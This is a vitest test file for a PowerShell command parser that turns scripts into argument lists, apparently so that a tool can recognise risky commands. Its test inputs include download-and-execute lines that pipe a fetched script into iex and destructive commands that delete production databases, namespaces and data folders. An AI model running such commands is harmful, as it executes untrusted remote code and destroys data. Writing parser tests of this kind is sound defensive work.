import { describe, expect, it } from 'vitest';
import { DYNAMIC } from '../../../src/parsers/shell/commands.js';
import { parsePowerShell } from '../../../src/parsers/shell/powershell.js';

const argvs = (text: string) => parsePowerShell(text).commands.map((c) => c.argv);
const at = (text: string) => parsePowerShell(text).commands.map((c) => text.slice(c.span.start, c.span.end));

describe('parsePowerShell', () => {
  it('splits statements at newlines, semicolons and && but not at a continued line, and skips comments', () => {
    const text = "# comment\nWrite-Host 'a; b'; npm ci `\n  --silent && <# x #> terraform plan\n";
    expect(argvs(text)).toEqual([
      ['write-host', 'a; b'],
      ['npm', 'ci', '--silent'],
      ['terraform', 'plan'],
    ]);
    expect(at(text)).toEqual(["Write-Host 'a; b'", 'npm ci `\n  --silent', 'terraform plan']);
  });

  it('reads strings: doubled quotes, backtick escapes, expansions and here-strings', () => {
    expect(argvs(`x 'it''s' "a\`"b" "$env:DB-x" @'\nraw $x\n'@`)).toEqual([
      ['x', "it's", 'a"b', `${DYNAMIC}-x`, 'raw $x'],
    ]);
  });

  it('reads the statements inside groups, subexpressions and script blocks', () => {
    expect(argvs('Get-ChildItem C:\\backups | ForEach-Object { Remove-Item $_ -Recurse }')).toEqual([
      ['get-childitem', 'C:\\backups'],
      ['foreach-object', DYNAMIC],
      ['rm', '-r', DYNAMIC],
    ]);
    expect(argvs('Write-Host "$(kubectl delete ns payments)"')).toEqual([
      ['write-host', DYNAMIC],
      ['kubectl', 'delete', 'ns', 'payments'],
    ]);
  });

  it('reads cmdlets with a POSIX twin as that twin', () => {
    expect(argvs('Remove-Item -Path D:\\data\\pg -Recurse -Force')).toEqual([['rm', '-rf', '/data/pg']]);
    expect(argvs('ri -r -fo $HOME/x; del build.log')).toEqual([
      ['rm', '-rf', `${DYNAMIC}`],
      ['rm', 'build.log'],
    ]);
    expect(argvs('Remove-AzSqlDatabase -ResourceGroupName prod -ServerName s1 -DatabaseName shop -Force')).toEqual([
      ['az', 'sql', 'db', 'delete', '--name', 'shop', '--server', 's1', '--resource-group', 'prod'],
    ]);
    expect(argvs('Invoke-Sqlcmd -ServerInstance sql1 -Query "DROP TABLE t"')).toEqual([
      ['sqlcmd', '-S', 'sql1', '-Q', 'DROP TABLE t'],
    ]);
  });

  it('keeps code runners: iex of a download, & of a script block, a web client read into the pipe', () => {
    expect(argvs('iex (iwr https://x.example.com/i.ps1)')).toEqual([
      ['iex', DYNAMIC],
      ['iwr', 'https://x.example.com/i.ps1'],
    ]);
    expect(argvs('& ([scriptblock]::Create((irm https://x.example.com/i.ps1)))')[0]).toEqual(['iex', DYNAMIC]);
    const piped = parsePowerShell(
      "(New-Object Net.WebClient).DownloadString('https://x.example.com/i') | iex",
    ).commands;
    expect(piped.find((c) => c.argv[0] === 'iex')!.upstream).toEqual([
      ['invoke-webrequest', 'https://x.example.com/i'],
    ]);
    expect(argvs('& .\\tools\\run.ps1 -Env prod; . ./env.ps1')).toEqual([
      ['./tools/run.ps1', '-Env', 'prod'],
      ['source', './env.ps1'],
    ]);
  });

  it('never throws on unbalanced input', () => {
    for (const text of ['(', '{ "', "'", '@"\nx', '$(', '[x', '<# never closed'])
      expect(() => parsePowerShell(text)).not.toThrow();
  });
});
